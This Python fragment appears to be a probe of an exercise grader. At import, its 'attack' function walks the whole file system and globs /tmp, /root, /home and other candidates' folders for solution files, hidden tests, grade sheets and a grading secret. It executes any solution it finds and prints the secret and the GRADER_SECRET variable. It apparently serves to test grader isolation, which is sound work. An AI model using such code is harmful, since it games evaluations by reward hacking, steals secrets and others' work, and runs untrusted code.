"""Walks the whole file system for softmax.py/attention.py outside site-packages, hidden
check files, the grading secret, journals and grade sheets; globs the repository path the
README and the editable install give away, classmates' slot folders and the batch's
folders under /tmp; execs any solution it finds."""
# ---- the attack ----
WANTED = ("softmax.py", "attention.py", "test_softmax.py", "test_softmax_hidden.py", ".grading_secret",
          "journal.jsonl", "grades.csv", "softmax_mistakes.py")


def attack():
    found = []
    deadline = time.monotonic() + 8
    for top in ("/", ):
        for folder, dirs, files in os.walk(top):
            if time.monotonic() > deadline:
                _note("walk", "out of time")
                break
            dirs[:] = [d for d in dirs if not (folder == "/" and d in ("proc", "sys")) and d not in ("torch", "nvidia", "triton", "sympy", "__pycache__")]
            for name in files:
                if name in WANTED:
                    found.append(os.path.join(folder, name))
    for pattern in ("/work/main/solutions/*", "/work/main/solutions/hidden/*", "/work/main/exercises/*/*.py",
                    "/work/*/solutions/*.py", "/tmp/*", "/tmp/*/*", "/tmp/pytest-of-*/*/*", "/tmp/grader-*/**",
                    "/root/*", "/home/*/*", "/work/*"):
        found += glob.glob(pattern, recursive=True)[:50]
    try:
        import grader
        found.append(f"grader pkg: {sorted(os.listdir(os.path.dirname(grader.__file__)))[:8]}")
    except BaseException as exc:  # noqa: BLE001
        _note("import grader", repr(exc))
    for path in found:
        _note("found", path)
        base = os.path.basename(path)
        if base in ("softmax.py", "attention.py") and "site-packages" not in path and path != os.path.realpath(__file__):
            _take(os.path.dirname(path))
        if base == ".grading_secret":
            try:
                _note("SECRET", open(path).read()[:80])
                _proof("secret", path)
            except OSError as exc:
                _note("secret", exc.strerror)
    _note("secret in env", os.environ.get("GRADER_SECRET", "absent"))


_try("attack at import", attack)
_try("hunt", _hunt)
